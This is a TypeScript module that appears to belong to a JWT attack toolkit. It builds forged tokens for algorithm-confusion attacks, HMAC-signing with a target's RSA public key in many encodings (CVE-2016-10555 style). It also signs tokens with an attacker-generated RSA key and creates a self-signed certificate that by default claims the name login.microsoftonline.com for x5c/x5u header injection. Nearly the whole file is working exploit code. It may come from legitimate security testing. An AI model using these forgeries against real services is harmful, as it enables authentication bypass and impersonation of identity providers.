/** Attacker-side key material: HMAC over `H.P`, fresh key pairs, a self-signed certificate. */
import 'reflect-metadata';
import {
  createHmac,
  createPrivateKey,
  createPublicKey,
  generateKeyPairSync,
  type KeyObject,
  sign,
  webcrypto,
} from 'node:crypto';
import * as x509 from '@peculiar/x509';
import { b64u, type Json } from './attack.ts';

x509.cryptoProvider.set(webcrypto as unknown as Parameters<typeof x509.cryptoProvider.set>[0]);

/** `H.P.S` with S = HMAC-SHA-256 over `H.P` keyed with any bytes (CVE-2016-10555 style). */
export function hs256(
  header: object,
  payload: object,
  key: string | Buffer,
  bits: 256 | 384 | 512 = 256,
): string {
  const signingInput = `${b64u(header)}.${b64u(payload)}`;
  const mac = createHmac(`sha${bits}`, key).update(signingInput).digest();
  return `${signingInput}.${b64u(mac)}`;
}

/** Every encoding of an RSA public key a confused verifier might use as an HMAC secret. */
export function publicKeyEncodings(jwk: Json): Array<[string, string | Buffer]> {
  const key = createPublicKey({ key: { kty: jwk.kty, n: jwk.n, e: jwk.e }, format: 'jwk' });
  const spkiPem = key.export({ type: 'spki', format: 'pem' }).toString();
  const pkcs1Pem = key.export({ type: 'pkcs1', format: 'pem' }).toString();
  const out: Array<[string, string | Buffer]> = [
    ['SPKI PEM with trailing newline', spkiPem],
    ['SPKI PEM without trailing newline', spkiPem.trimEnd()],
    ['SPKI PEM with CRLF', spkiPem.replace(/\n/g, '\r\n')],
    ['PKCS#1 PEM', pkcs1Pem],
    ['PKCS#1 PEM without trailing newline', pkcs1Pem.trimEnd()],
    ['SPKI DER', key.export({ type: 'spki', format: 'der' })],
    ['PKCS#1 DER', key.export({ type: 'pkcs1', format: 'der' })],
    ['JWK JSON as published', JSON.stringify(jwk)],
    ['JWK JSON {kty,n,e}', JSON.stringify({ kty: jwk.kty, n: jwk.n, e: jwk.e })],
    ['JWK JSON {e,kty,n} (RFC 7638 order)', JSON.stringify({ e: jwk.e, kty: jwk.kty, n: jwk.n })],
    ['modulus n (base64url text)', String(jwk.n)],
  ];
  if (Array.isArray(jwk.x5c) && typeof jwk.x5c[0] === 'string') {
    const body = jwk.x5c[0].match(/.{1,64}/g)?.join('\n') ?? '';
    out.push(['x5c certificate PEM', `-----BEGIN CERTIFICATE-----\n${body}\n-----END CERTIFICATE-----\n`]);
    out.push(['x5c certificate DER', Buffer.from(jwk.x5c[0], 'base64')]);
  }
  return out;
}

export interface AttackerKey {
  privateKey: KeyObject;
  publicJwk: Json;
  kid: string;
}

let cached: AttackerKey | undefined;
/** One RSA-2048 key pair for the whole run (generation costs ~100 ms). */
export function attackerRsa(): AttackerKey {
  if (!cached) {
    const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const publicJwk = publicKey.export({ format: 'jwk' }) as Json;
    cached = {
      privateKey,
      publicJwk: { ...publicJwk, kid: 'attacker-key', use: 'sig', alg: 'RS256' },
      kid: 'attacker-key',
    };
  }
  return cached;
}

/** RS256 signature over `H.P` with the attacker's key. */
export function rs256(
  header: object,
  payload: object | string,
  key: KeyObject = attackerRsa().privateKey,
): string {
  const p = typeof payload === 'string' ? b64u(payload) : b64u(payload);
  const signingInput = `${b64u(header)}.${p}`;
  return `${signingInput}.${b64u(sign('sha256', Buffer.from(signingInput), key))}`;
}

/** A self-signed certificate for the attacker's own RSA key, as base64 DER (x5c) and PEM (x5u). */
export async function selfSignedCert(
  cn = 'login.microsoftonline.com',
): Promise<{ der: string; pem: string; key: KeyObject; jwk: Json }> {
  const alg = {
    name: 'RSASSA-PKCS1-v1_5',
    hash: 'SHA-256',
    publicExponent: new Uint8Array([1, 0, 1]),
    modulusLength: 2048,
  };
  const keys = (await webcrypto.subtle.generateKey(alg, true, ['sign', 'verify'])) as webcrypto.CryptoKeyPair;
  const cert = await x509.X509CertificateGenerator.createSelfSigned({
    serialNumber: '01',
    name: `CN=${cn}`,
    notBefore: new Date(Date.now() - 3600_000),
    notAfter: new Date(Date.now() + 86400_000),
    signingAlgorithm: alg,
    keys: keys as unknown as x509.X509CertificateCreateSelfSignedParams['keys'],
  });
  const der = Buffer.from(cert.rawData).toString('base64');
  const jwk = (await webcrypto.subtle.exportKey('jwk', keys.publicKey)) as Json;
  const pk = await webcrypto.subtle.exportKey('pkcs8', keys.privateKey);
  const key = createPrivateKey({ key: Buffer.from(pk), format: 'der', type: 'pkcs8' });
  return { der, pem: cert.toString('pem'), key, jwk };
}
